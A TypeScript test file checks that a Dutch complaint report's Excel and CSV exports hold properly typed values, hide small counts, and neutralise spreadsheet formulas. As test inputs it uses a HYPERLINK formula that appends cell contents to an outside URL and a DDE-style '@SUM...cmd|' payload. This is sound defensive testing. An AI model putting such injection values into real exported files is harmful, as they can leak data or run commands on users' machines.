// The files of a report, read back cell by cell: right kinds of values, nothing hidden in them, and no formula that runs.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { measure } from '../../engine/core/measure/measure.ts';
import type { MetricPlan } from '../../engine/core/plan/plan.ts';
import { reportFiles } from '../../views/pages/evaluation/report/files.ts';
import { complaintPlan, factRows, withMetrics } from '../measure/example.ts';
import type { Known } from '../measure/example.ts';
import { readXlsx, unzip } from '../harness/read-xlsx.ts';
import type { ReadCell } from '../harness/read-xlsx.ts';

const of = { source: 'x', run: () => true } as unknown as NonNullable<MetricPlan['of']>;
const time = {
  kind: 'duration',
  from: { at: 'receipt' },
  to: { at: 'closed' },
  in: 'days',
  buckets: [],
} as const;
const plan = withMetrics(complaintPlan(5), {
  kinds: { title: { nl: '=SOM(A1)', en: '' }, by: ['category'] },
  quick: { title: 'Snel', kind: { kind: 'share', that: of }, target: '95%' },
  lasted: { title: 'Duur', kind: time as never, target: '10 days' },
});
const [NOW, BEFORE] = [
  { from: '2026-04-01', until: '2026-06-30' },
  { from: '2026-01-01', until: '2026-03-31' },
];

function some(count: number, category: string, at: string, days: number): Known[] {
  return Array.from({ length: count }, (_, index) => ({
    'at:complaint:receipt': at,
    'field:category': category,
    'share:quick': index % 4 === 3 ? 'no' : 'yes',
    'duration:lasted': ['measured', days * 86_400],
  }));
}

const rows = factRows([
  ...some(31, 'pay', '2026-05-05', 6),
  ...some(17, 'placement', '2026-05-05', 12),
  ...some(3, 'privacy', '2026-05-05', 8),
  ...some(28, 'pay', '2026-02-03', 9),
  ...some(16, 'placement', '2026-02-03', 9),
]);
const FINDING = '=HYPERLINK("http://example.org"&A1,"klik")';
const found = Object.values(plan.metrics).map((metric) => ({
  name: `complaint.${metric.name}`,
  finding: metric.name === 'kinds' ? FINDING : '@SUM(1+1)*cmd|x',
  told: {
    plan,
    lang: 'nl',
    figure: measure(plan, metric, rows, NOW),
    before: measure(plan, metric, rows, BEFORE),
  },
}));
const parts = [
  { procedure: 'complaint', title: { nl: '+Klacht', en: '' }, counted: '2026-07-01T00:00:00Z', found },
];
const report = { lang: 'nl', period: NOW, parts };

const excel = await reportFiles.xlsx.write(report);
const [heads = [], ...cells] = readXlsx(excel);
const column = (name: string) => heads.findIndex((head) => head?.value === name);

function at(figure: string, group: string, what: string): (name: string) => ReadCell | undefined {
  const row = cells.find(
    (each) =>
      each[column('Cijfer')]?.value === figure &&
      each[column('Verdeling')]?.value === group &&
      each[column('Wat is geteld')]?.value === what,
  );
  if (!row) throw new Error(`There is no row ${figure}, ${group}, ${what}.`);
  return (name) => row[column(name)];
}

describe('the file for Excel', () => {
  it('then each number is a number with its unit, and the period dates', () => {
    const cell = at('=SOM(A1)', 'Loon, uren of facturen', 'Aantal');
    expect(cell('Waarde')).toEqual({ value: 31 });
    expect(cell('Eenheid')).toEqual({ value: 'dossiers' });
    expect(cell('Periode ervoor')).toEqual({ value: 28 });
    expect(cell('Verschil met de periode ervoor')).toEqual({
      value: 3,
      format: '+0" meer";−0" minder";"gelijk"',
    });
    expect(cell('Van')).toEqual({ value: new Date('2026-04-01T00:00:00Z'), format: 'yyyy-mm-dd' });
    expect(cell('Tot en met')).toEqual({ value: new Date('2026-06-30T00:00:00Z'), format: 'yyyy-mm-dd' });
  });

  it('then a percentage is a fraction that is shown as one, with both its numbers and its target', () => {
    const cell = at('Snel', 'Alle dossiers', 'Aandeel');
    expect(cell('Waarde')).toEqual({ value: 40 / 51, format: '0.0%' });
    expect([cell('Aantal in het percentage'), cell('Van hoeveel')]).toEqual([{ value: 40 }, { value: 51 }]);
    expect(cell('Periode ervoor')).toEqual({ value: 33 / 44, format: '0.0%' });
    expect(cell('Verschil met de periode ervoor')).toEqual({
      value: 3.4,
      format: '+0.0" procentpunt hoger";−0.0" procentpunt lager";"gelijk"',
    });
    expect([cell('Doel'), cell('Doel gehaald?')]).toEqual([{ value: '95%' }, { value: 'niet gehaald' }]);
  });

  it('then a length is a number in the unit of the figure, and the target stands with the one it is about', () => {
    const cell = at('Duur', 'Alle dossiers', 'Negen van de tien binnen');
    expect(cell('Waarde')).toEqual({ value: 12, format: '0.0' });
    expect(cell('Eenheid')).toEqual({ value: 'dagen' });
    expect(cell('Verschil met de periode ervoor')).toMatchObject({
      value: 3,
      format: '+0.0" dagen langer";−0.0" dagen korter";"gelijk"',
    });
    expect([cell('Doel'), cell('Doel gehaald?')]).toEqual([{ value: '10 dagen' }, { value: 'niet gehaald' }]);
    expect(at('Duur', 'Alle dossiers', 'De helft binnen')('Doel')?.value ?? '').toBe('');
  });

  it('then what is hidden is nowhere in the file, and neither is how it differs', () => {
    for (const group of ['Privacy', 'De inzet of de match']) {
      const cell = at('=SOM(A1)', group, 'Aantal');
      expect(cell('Waarde')).toEqual({ value: 'niet getoond' });
      expect(cell('Verschil met de periode ervoor')?.value ?? '').toBe('');
    }
    const numbers = cells.flatMap((row) => row.map((cell) => cell?.value));
    expect(numbers.filter((value) => value === 17 || value === 1)).toEqual([]);
    expect(unzip(excel).get('xl/sharedStrings.xml')).not.toMatch(/\b17\b/);
  });

  it('then words are only words, whatever sign they begin with', () => {
    expect(at('=SOM(A1)', 'Alle dossiers', 'Aantal')('Wat opviel')).toEqual({ value: FINDING });
    expect([...unzip(excel).values()].join()).not.toMatch(/<f[ >]/);
  });

  it('then every row says what was counted and out of what', () => {
    for (const row of cells) expect(String(row[column('Wat hier is geteld')]?.value)).toContain('dossiers');
  });
});

describe('the file with commas', () => {
  it('then the same stands in it in plain text, with signs in words, and no formula runs', async () => {
    const text = Buffer.from(await reportFiles.csv.write(report)).toString('utf8');
    const read: Record<string, string>[] = parse(text, { bom: true, columns: true });
    expect(read).toHaveLength(cells.length);
    const row = (figure: string, group: string, what: string) =>
      read.find(
        (each) => each.Cijfer === figure && each.Verdeling === group && each['Wat is geteld'] === what,
      ) ?? {};
    expect(row("'=SOM(A1)", 'Loon, uren of facturen', 'Aantal')).toMatchObject({
      Procedure: "'+Klacht",
      Van: '2026-04-01',
      Waarde: '31',
      'Verschil met de periode ervoor': '3 meer (+3)',
      'Wat opviel': `'${FINDING}`,
    });
    expect(row('Snel', 'Alle dossiers', 'Aandeel')).toMatchObject({
      Waarde: '78.4',
      Eenheid: '%',
      'Aantal in het percentage': '40',
      'Van hoeveel': '51',
      'Periode ervoor': '75',
      'Verschil met de periode ervoor': '3,4 procentpunt hoger (+3,4)',
      'Doel gehaald?': 'niet gehaald',
    });
    for (const each of read)
      for (const value of Object.values(each)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });
});
